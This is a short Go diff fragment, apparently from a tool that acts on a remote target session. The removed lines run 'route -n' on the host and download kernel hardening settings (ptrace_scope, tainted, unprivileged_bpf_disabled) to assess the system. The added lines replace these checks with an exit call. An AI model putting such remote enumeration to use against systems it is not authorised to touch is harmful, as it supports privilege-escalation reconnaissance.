-	executeBinary(targetSession, rpc, "/usr/sbin/route", []string{"-n"}, true)
-
-	makeBorder("Checking: /proc/sys/kernel/yama/ptrace_scope")
-	downloadFile(targetSession, rpc, "/proc/sys/kernel/yama/ptrace_scope", fileTag, true, true)
-	ptraceScope, _ := readFileAsString(fileTag+"/proc/sys/kernel/yama/ptrace_scope")
-	ptraceValue := resolvePtrace(ptraceScope)
-	fmt.Println(ptraceValue)
-
-	makeBorder("Checking: /proc/sys/kernel/tainted")
-	downloadFile(targetSession, rpc, "/proc/sys/kernel/tainted", fileTag, true, true)
-	taintedValue, _ := readFileAsString(fileTag+"/proc/sys/kernel/tainted")
-	taintScript(taintedValue)
-	
-	makeBorder("Checking: /proc/sys/kernel/unprivileged_bpf_disabled")
-	downloadFile(targetSession, rpc, "/proc/sys/kernel/unprivileged_bpf_disabled", fileTag, true, true)
-	bpfValue, _ := readFileAsString(fileTag+"/proc/sys/kernel/unprivileged_bpf_disabled")
-	bpfDecoded := resolveBpf(bpfValue)
-	fmt.Println(bpfDecoded)
-
+	// the audit log and capture archive are written unbuffered so nothing is lost by exiting here
+	os.Exit(common.ExitCodeFor(failures))
 }